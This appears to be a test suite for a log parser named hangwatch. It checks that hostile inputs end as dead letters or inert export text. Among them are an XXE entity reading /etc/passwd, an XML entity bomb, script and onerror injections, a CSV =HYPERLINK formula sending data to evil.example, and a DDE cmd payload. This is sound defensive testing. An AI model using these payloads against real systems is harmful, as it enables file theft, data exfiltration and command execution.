// Hostile input through `hangwatch parse` / `analyze` / `timeline` as child processes under a heap limit
// (harness/run-bounded.ts): every hostile record ends as a dead letter with a reason (or, where DESIGN.md says
// so, as a flagged event), a valid record after it is still parsed, and peak memory stays under the bound.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { appendFile, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { ENTITY_BOMB_XML } from '../generator/hostile.js';
import { generateCorpus } from '../generator/generate.js';
import { DEFAULT_OPTIONS } from '../generator/types.js';
import { createRng } from '../generator/prng.js';
import { RSS_BOUND_MB, HEAP_LIMIT_MB, parseCounts, runBounded } from './harness/run-bounded.js';
import { SIZES, MODE, formatSize } from './harness/mode.js';
import { recordRow } from './harness/table.js';
import { REPO, WORK } from './harness/paths.js';

const dir = join(WORK, 'hostile');
const VALID = '2017-03-15 05:11:55.000+0000: 4242: error : qemuMonitorIO:689 : internal error: End of file from monitor\n';
const libvirtdLine = (stamp: string, message: string): string => `${stamp}: 4242: error : qemuMonitorIO:689 : ${message}\n`;

interface Letter {
  error: { code: string; message: string };
  event: { original: string };
  hangwatch: { original: { encoding: string; length: number; sha256: string; truncated: boolean } };
}

async function readNdjson<T>(path: string, each: (value: T) => void): Promise<number> {
  let n = 0;
  const lines = createInterface({ input: createReadStream(path), crlfDelay: Infinity });
  for await (const line of lines) {
    if (!line) continue;
    each(JSON.parse(line) as T);
    n++;
  }
  return n;
}

interface Case {
  readonly order: string;
  readonly name: string;
  readonly format: string;
  readonly input: () => Promise<Buffer | string>;
  readonly maxRecordBytes?: number;
  readonly check: (result: { parsed: number; deadletters: number; letters: string; events: string }) => Promise<void>;
  /** Records the input holds (for the table). */
  readonly records: number;
}

async function runCase(c: Case): Promise<void> {
  await mkdir(dir, { recursive: true });
  const input = join(dir, `${c.order}.input`);
  await writeFile(input, await c.input());
  const letters = join(dir, `${c.order}.deadletter.ndjson`);
  const events = join(dir, `${c.order}.events.ndjson`);
  const args = ['parse', '--format', c.format, '--host', 'hostile-host', '--deadletter', letters, ...(c.maxRecordBytes ? ['--max-record-bytes', String(c.maxRecordBytes)] : []), input];
  const run = await runBounded(args, events);
  assert.equal(run.code, 0, `${c.name}: exit status (stderr: ${run.stderr.slice(-800)})`);
  const counts = parseCounts(run.stderr);
  await recordRow(c.order, {
    fault: `hostile: ${c.name}`,
    recordsIn: c.records,
    indexed: counts.parsed,
    deadletters: counts.deadletters,
    duplicates: 0,
    lost: c.records - counts.parsed - counts.deadletters,
    recovery: `peak RSS ${run.peakRssMb.toFixed(0)} MiB (bound ${RSS_BOUND_MB})`,
    notes: `hangwatch parse --format ${c.format}${c.maxRecordBytes ? ` --max-record-bytes ${c.maxRecordBytes}` : ''}, heap limit ${HEAP_LIMIT_MB} MiB`,
  });
  assert.ok(run.peakRssMb < RSS_BOUND_MB, `${c.name}: peak RSS ${run.peakRssMb} MiB under ${RSS_BOUND_MB} MiB`);
  assert.equal(counts.parsed + counts.deadletters, c.records, `${c.name}: every record is an event or a dead letter`);
  await c.check({ ...counts, letters, events });
  await rm(input);
}

/** Every dead letter has a catalogue code, a message, its original's length and SHA-256. */
async function checkLetters(path: string, code: RegExp, each?: (l: Letter) => void): Promise<void> {
  await readNdjson<Letter>(path, (l) => {
    assert.match(l.error.code, code);
    assert.ok(l.error.message.length > 0);
    assert.match(l.hangwatch.original.sha256, /^[0-9a-f]{64}$/);
    assert.ok(Buffer.byteLength(l.event.original) <= 128 * 1024, 'the original kept is bounded (64 KiB, base64 at most 4/3 of it)');
    each?.(l);
  });
}

const huge = libvirtdLine('2017-03-15 05:11:54.777+0000', `internal error: ${'A'.repeat(SIZES.hugeLineBytes)}`);
const cases: Case[] = [
  {
    order: '10-01',
    name: `a ${formatSize(SIZES.hugeLineBytes, 'bytes')} line`,
    format: 'libvirtd',
    maxRecordBytes: 524_288, // the shipper's read.max_record_bytes
    records: 2,
    input: async () => huge + VALID,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      const whole = Buffer.from(huge.slice(0, -1));
      await checkLetters(letters, /^HW_RECORD_TOO_LARGE$/, (l) => {
        assert.equal(l.hangwatch.original.truncated, true);
        assert.equal(l.hangwatch.original.length, whole.length, 'the full length is kept');
        assert.equal(l.hangwatch.original.sha256, createHash('sha256').update(whole).digest('hex'), 'the SHA-256 of the whole record');
      });
    },
  },
  {
    order: '10-02',
    name: `${formatSize(SIZES.tinyLines, 'count')} tiny lines`,
    format: 'libvirtd',
    records: SIZES.tinyLines + 1,
    input: async () => 'x\n'.repeat(SIZES.tinyLines) + VALID,
    check: async ({ parsed, letters }) => {
      assert.equal(parsed, 1, 'the valid line after them is parsed');
      await checkLetters(letters, /^HW_PARSE_NO_MATCH$/);
    },
  },
  {
    order: '10-03',
    name: `${formatSize(SIZES.randomBytes, 'bytes')} of random bytes`,
    format: 'libvirtd',
    // Random bytes other than line ends, cut into 256-byte lines: the record count is known.
    records: Math.ceil(SIZES.randomBytes / 256) + 1,
    input: async () => {
      const rng = createRng(11).fork('random-bytes');
      const lines: Buffer[] = [];
      for (let done = 0; done < SIZES.randomBytes; done += 256) {
        const line = Buffer.alloc(Math.min(256, SIZES.randomBytes - done));
        for (let i = 0; i < line.length; i++) {
          let b = Math.floor(rng.next() * 256);
          if (b === 0x0a || b === 0x0d) b = 0x41;
          line[i] = b;
        }
        lines.push(line, Buffer.from('\n'));
      }
      return Buffer.concat([...lines, Buffer.from(VALID)]);
    },
    check: async ({ parsed, letters }) => {
      assert.equal(parsed, 1, 'the valid line after them is parsed');
      let base64 = 0;
      await checkLetters(letters, /^HW_(PARSE_NO_MATCH|RECORD_INVALID|RECORD_TOO_LARGE)$/, (l) => {
        if (l.hangwatch.original.encoding === 'base64') base64++;
      });
      assert.ok(base64 > 0, 'originals that are not UTF-8 are kept as base64');
    },
  },
  {
    order: '10-04',
    name: 'invalid UTF-8 in a record',
    format: 'libvirtd',
    records: 2,
    input: async () => Buffer.concat([Buffer.from("2017-03-15 05:11:54.777+0000: 4242: error : virFileReadAll:1360 : Failed to open file '/tmp/"), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from("': No such file\n"), Buffer.from(VALID)]),
    check: async ({ parsed, events }) => {
      // DESIGN.md section 4: replaced by U+FFFD, flagged, parsed like any other.
      assert.equal(parsed, 2);
      const first = JSON.parse((await readFile(events, 'utf8')).split('\n')[0] as string) as { event: { original: string }; hangwatch: { parse: { flags?: string[] } } };
      assert.ok(first.hangwatch.parse.flags?.includes('invalid-utf8'));
      assert.ok(first.event.original.includes('\uFFFD'));
    },
  },
  {
    order: '10-05',
    name: 'NUL bytes in a record',
    format: 'libvirtd',
    records: 2,
    input: async () => libvirtdLine('2017-03-15 05:11:54.777+0000', 'ignoring\u0000\u0000 permission error') + VALID,
    check: async ({ parsed, events }) => {
      assert.equal(parsed, 2);
      const first = JSON.parse((await readFile(events, 'utf8')).split('\n')[0] as string) as { event: { original: string } };
      assert.ok(first.event.original.includes('\u0000'), 'the original keeps its bytes (JSON escapes them)');
    },
  },
  {
    order: '10-06',
    name: 'XML entity expansion bomb',
    format: 'winevent-xml',
    records: 2, // the reader frames the DOCTYPE prelude and the <Event> as two records
    input: async () => ENTITY_BOMB_XML,
    check: async ({ deadletters, letters }) => {
      assert.equal(deadletters, 2);
      await checkLetters(letters, /^HW_XML_FORBIDDEN$/);
      assert.ok((await readFile(letters, 'utf8')).length < 4096, 'nothing was expanded');
    },
  },
  {
    order: '10-07',
    name: 'XML external entity (file:///etc/passwd)',
    format: 'winevent-xml',
    records: 2,
    input: async () =>
      "<?xml version='1.0'?><!DOCTYPE Event [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='EventLog'/><EventID Qualifiers='32768'>6008</EventID><Computer>WIN7-X</Computer></System><EventData><Data>&xxe;</Data></EventData></Event>\n",
    check: async ({ deadletters, letters, events }) => {
      assert.equal(deadletters, 2);
      await checkLetters(letters, /^HW_XML_FORBIDDEN$/);
      const passwd = (await readFile('/etc/passwd', 'utf8')).split('\n')[0] as string;
      for (const out of [letters, events]) assert.ok(!(await readFile(out, 'utf8')).includes(passwd), 'no file content was read');
    },
  },
  {
    order: '10-08',
    name: `JSON nested ${formatSize(SIZES.nestingDepth, 'count')} deep`,
    format: 'winlogbeat',
    records: 2,
    input: async () => `${'{"a":'.repeat(SIZES.nestingDepth)}1${'}'.repeat(SIZES.nestingDepth)}\n${winlogbeatDoc({})}`,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      await checkLetters(letters, /^HW_RECORD_INVALID$/, (l) => assert.match(l.error.message, /nested/));
    },
  },
  {
    order: '10-09',
    name: `a record with ${formatSize(SIZES.fields, 'count')} fields`,
    format: 'winlogbeat',
    records: 2,
    input: async () => `${winlogbeatDoc(Object.fromEntries(Array.from({ length: SIZES.fields }, (_, i) => [`f${i}`, 'v'])))}${winlogbeatDoc({})}`,
    check: async ({ parsed, deadletters, letters }) => {
      assert.deepEqual({ parsed, deadletters }, { parsed: 1, deadletters: 1 });
      await checkLetters(letters, /^HW_RECORD_INVALID$/, (l) => assert.match(l.error.message, /members/));
    },
  },
  {
    order: '10-10',
    name: `a WinDbg report of ${formatSize(SIZES.windbgFrames, 'count')} stack frames`,
    format: 'windbg',
    records: 1,
    input: async () => {
      const seed = await readFile(join(REPO, 'test', 'grammars', 'fixtures', 'windbg', 'seed-win7-x86-clock-watchdog.txt'), 'utf8');
      const frame = '807fc620 83c8d763 00026160 00000000 0011a800 nt!KeAccumulateTicks+0x242\n';
      return seed.replace(/STACK_TEXT: *\r?\n/, (m) => m + frame.repeat(SIZES.windbgFrames));
    },
    check: async ({ parsed, deadletters, letters, events }) => {
      // Either way is acceptable, never a crash or a silent drop: parsed (with the bugcheck) or a dead letter with its reason.
      if (parsed === 1) assert.match(await readFile(events, 'utf8'), /"0x00000101"/);
      else {
        assert.equal(deadletters, 1);
        await checkLetters(letters, /^HW_/);
      }
    },
  },
  {
    order: '10-11',
    name: 'timestamps in 1970, 1969 and 2200',
    format: 'libvirtd',
    records: 3,
    input: async () => libvirtdLine('1970-01-01 00:00:00.000+0000', 'epoch') + libvirtdLine('1969-12-31 23:59:59.000+0000', 'before the epoch') + libvirtdLine('2200-01-01 00:00:00.000+0000', 'far future'),
    check: async ({ parsed, deadletters, events, letters }) => {
      // Parsed at their own times, or refused with HW_TIME_INVALID: never moved to another time silently.
      const stamps: string[] = [];
      if (parsed > 0) await readNdjson<{ '@timestamp': string }>(events, (e) => stamps.push(e['@timestamp']));
      for (const s of stamps) assert.ok(['1970-01-01T00:00:00.000Z', '1969-12-31T23:59:59.000Z', '2200-01-01T00:00:00.000Z'].includes(s), s);
      if (deadletters > 0) await checkLetters(letters, /^HW_TIME_INVALID$/);
    },
  },
];

function winlogbeatDoc(eventData: Record<string, string>): string {
  return `${JSON.stringify({
    '@timestamp': '2017-03-15T05:11:54.777Z',
    event: { code: '41', provider: 'Microsoft-Windows-Kernel-Power' },
    winlog: { channel: 'System', event_id: '41', provider_name: 'Microsoft-Windows-Kernel-Power', record_id: 7, computer_name: 'WIN7-X', event_data: { BugcheckCode: '257', ...eventData } },
    host: { name: 'WIN7-X' },
    message: 'The system has rebooted without cleanly shutting down first.',
  })}\n`;
}

// The cases are independent child processes (own files, own peak memory measure): three at a time, so that
// their start-up (a few seconds each on a loaded machine) overlaps.
describe(`hostile input (${MODE})`, { concurrency: 3 }, () => {
  for (const c of cases) {
    test(c.name, { timeout: 600_000 }, async () => {
      await runCase(c);
    });
  }

  test('HTML and CSV injection in messages: timeline exports stay inert', { timeout: 600_000 }, async () => {
    const root = join(dir, 'injection');
    await rm(root, { recursive: true, force: true });
    const truth = generateCorpus(root, { ...DEFAULT_OPTIONS, seed: 5, hosts: 1, vmsPerHost: 1, hangs: 1, cleanShutdowns: 0 });
    const host = truth.hosts[0]?.name as string;
    const payloads = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3'];
    const at = new Date(Date.parse(truth.window.gte) + 3_600_000).toISOString().replace('T', ' ').replace('Z', '+0000');
    const injected = payloads.map((p) => libvirtdLine(at, p)).join('');
    await appendFile(join(root, host, 'var', 'log', 'libvirt', 'libvirtd.log'), injected);
    const analysis = join(root, 'analysis');
    const analyzed = await runBounded(['analyze', '--out', analysis, '--year-reference', truth.referenceTime, join(root, host)], join(root, 'analyze.out'));
    assert.equal(analyzed.code, 0, analyzed.stderr.slice(-500));
    const from = truth.window.gte;
    const to = truth.window.lte;
    const exports: Record<string, string> = {};
    for (const format of ['html', 'csv', 'md'] as const) {
      const out = join(root, `timeline.${format}`);
      const r = await runBounded(['timeline', '--host', host, '--from', from, '--to', to, '--format', format, '--source', analysis, '--out', out], join(root, `timeline-${format}.stdout`));
      assert.equal(r.code, 0, r.stderr.slice(-500));
      exports[format] = await readFile(out, 'utf8');
    }
    const html = exports.html as string;
    const csv = exports.csv as string;
    assert.ok(html.includes('alert(1)'), 'the payload is in the export (as text)');
    assert.ok(!html.includes('<script>alert(1)</script>'), 'no live script element');
    assert.ok(!/<img[^>]*onerror=alert\(2\)/.test(html), 'no live event handler');
    // CSV: a cell beginning with = + - @ is a formula in spreadsheets (OWASP CSV injection): it must be neutralized.
    for (const line of csv.split('\n')) {
      for (const cell of line.split(',')) {
        const text = cell.replace(/^"/, '');
        assert.ok(!/^[=+@]/.test(text), `formula cell in CSV: ${cell.slice(0, 80)}`);
      }
    }
    assert.ok(csv.includes('HYPERLINK'), 'the payload is in the CSV (as text)');
    await recordRow('10-12', {
      fault: 'hostile: HTML/CSV injection in messages',
      recordsIn: payloads.length,
      indexed: payloads.length,
      deadletters: 0,
      duplicates: 0,
      lost: 0,
      recovery: 'inert in html/csv/md',
      notes: 'hangwatch analyze + timeline --host (html, csv, md); Kibana objects checked in 40-security',
    });
  });
});
